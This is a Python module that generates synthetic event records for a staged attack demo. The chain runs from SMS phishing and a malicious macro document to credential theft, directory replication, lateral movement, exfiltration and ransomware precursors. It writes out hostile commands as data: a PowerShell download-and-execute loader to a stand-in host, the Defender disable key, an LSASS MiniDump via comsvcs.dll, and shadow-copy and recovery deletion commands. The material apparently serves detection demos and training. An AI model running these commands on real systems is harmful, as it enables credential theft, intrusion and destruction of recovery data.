"""The attack of the demo, stage by stage. What it tells is in `capture.toml` and `docs/demo.md`."""

import base64

from background import EDGE, WORD
from records import DEFENDER, POWERSHELL_EXE, SYSTEM32, Host

ADDRESS = "203.0.113.40"
AGENT = "Camille Perrot"
PHONE = {
    "id": "wN4cPerrotPhone7Qm2Zt8", "serial": "R5CHE70142", "name": AGENT,
    "email": "c.perrot@chenove.example", "os": "Android", "version": "14",
    "patch": "2025-11-01T00:00:00.000Z", "model": "SM-A346B",
}
PC = Host("CHE-PC-0142", "CHENOVE", "10.21.4.142", "c.perrot")
SERVER = Host("QUE-SRV-FIC01", "QUETIGNY", "10.23.0.11", "svc-fic01", os_name="Windows Server 2022", kind="server")
CONTROLLER = Host("DM-DC01", "DIJONMETRO", "10.20.0.5", "adm-rey", os_name="Windows Server 2022", kind="server")
STOLEN = "DIJONMETRO\\adm-rey"

LOADER = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://livraison-relais.example/a')"
ENCODED = base64.b64encode(LOADER.encode("utf-16le")).decode()


def events(r):
    """(at_ms, stage, feed, record) in any order."""
    yield from phone(r)
    yield from workstation(r)
    yield from directory(r)
    yield from server(r)


def phone(r):
    """A message about a parcel leads to a page, the page to an application."""
    feed, stage = "chenove-phones", "1-smishing"
    yield 2_500, stage, feed, r.phone_detection(PHONE, "match_phishing_url", "Phishing URL opened from SMS", "START")
    stage = "2-malicious-app"
    yield 4_200, stage, feed, r.phone_status(PHONE, "System", "ApplicationInstalledFromUnknownSource", 1)
    yield 4_600, stage, feed, r.phone_app(PHONE, ("com.suivi.colis.express", "Suivi Colis", "3.1.0"), "Disapproved", "Red")
    yield 5_000, stage, feed, r.phone_correlation(PHONE, application="Red", system="Orange")


def workstation(r):
    """The agent opens the document that "the carrier" sent to the office mailbox."""
    feed, stage = "chenove-endpoints", "3-execution"
    yield 8_000, stage, feed, r.process(PC, POWERSHELL_EXE, f"powershell.exe -NoP -W Hidden -enc {ENCODED}", WORD,
                                        f"\"{WORD}\" /n \"C:\\Users\\c.perrot\\Downloads\\bon-de-livraison.docm\"")
    yield 8_200, stage, feed, r.script(PC, LOADER)
    yield 8_400, stage, feed, r.dns(PC, POWERSHELL_EXE, "livraison-relais.example", ADDRESS)
    yield 8_500, stage, feed, r.network(PC, POWERSHELL_EXE, ADDRESS, 443, "livraison-relais.example")

    stage = "4-defence-evasion"
    yield 11_000, stage, feed, r.registry(
        PC, POWERSHELL_EXE, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
        "DWORD (0x00000001)")
    yield 11_300, stage, feed, r.windows(PC, DEFENDER, 5001, {
        "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11"})

    stage = "5-credential-theft"
    yield 13_800, stage, feed, r.process(PC, SYSTEM32 + "rundll32.exe",
                                         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\cache.bin full",
                                         POWERSHELL_EXE, integrity="High")
    yield 13_900, stage, feed, r.access(PC, SYSTEM32 + "rundll32.exe", SYSTEM32 + "lsass.exe", "0x1fffff",
                                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9f934|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ce0|C:\\Windows\\System32\\comsvcs.dll+28b13")


def directory(r):
    """The administrator who had helped on that workstation is now the attacker's."""
    feed, stage = "dijon-metropole-endpoints", "6-directory"
    subject = {"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1204", "SubjectUserName": "adm-rey",
               "SubjectDomainName": "DIJONMETRO", "SubjectLogonId": "0x1f03ac2"}
    yield 16_800, stage, feed, r.logon(CONTROLLER, "adm-rey", ip=PC.ip)
    for n in range(3):
        yield 17_000 + 90 * n, stage, feed, r.security(CONTROLLER, 4662, subject | {
            "ObjectServer": "DS", "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            "ObjectName": "%{b1f3c7aa-52f7-4f62-9d0d-2d6f4c5f2a10}", "OperationType": "Object Access",
            "HandleId": "0x0", "AccessList": "%%7688\r\n\t\t\t\t", "AccessMask": "0x100",
            "Properties": "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n",
        }, "Directory Service Access")


def server(r):
    """From Chenôve to the file server of Quetigny."""
    feed, stage = "quetigny-endpoints", "7-lateral-movement"
    provider = SYSTEM32 + "wbem\\WmiPrvSE.exe"
    yield 20_200, stage, feed, r.funnel_process(
        SERVER, SYSTEM32 + "cmd.exe", "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1772526.21 2>&1", provider,
        provider + " -secured -Embedding", user=STOLEN)
    yield 20_900, stage, feed, r.funnel_process(
        SERVER, SYSTEM32 + "cmd.exe", "cmd.exe /Q /c dir D:\\Partages 1> \\\\127.0.0.1\\ADMIN$\\__1772526.22 2>&1", provider,
        provider + " -secured -Embedding", user=STOLEN)

    # Nothing tells these uploads from those that staff make to the same, allowed storage.
    stage = "8-exfiltration"
    for n in range(4):
        yield 23_000 + 350 * n, stage, feed, r.funnel_network(
            SERVER, EDGE, f"\"{EDGE}\" --type=utility --utility-sub-type=network.mojom.NetworkService", "198.51.100.90", 443,
            user=STOLEN)

    stage = "9-ransomware-precursor"
    yield 26_500, stage, feed, r.funnel_process(SERVER, SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                                                SYSTEM32 + "cmd.exe", user=STOLEN)
    yield 26_700, stage, feed, r.funnel_process(SERVER, SYSTEM32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no",
                                                SYSTEM32 + "cmd.exe", user=STOLEN)
    yield 27_400, stage, "metropole-sentinelone", r.threat(
        SERVER, "gestion-maj.exe", "\\Device\\HarddiskVolume3\\ProgramData\\gestion-maj.exe")
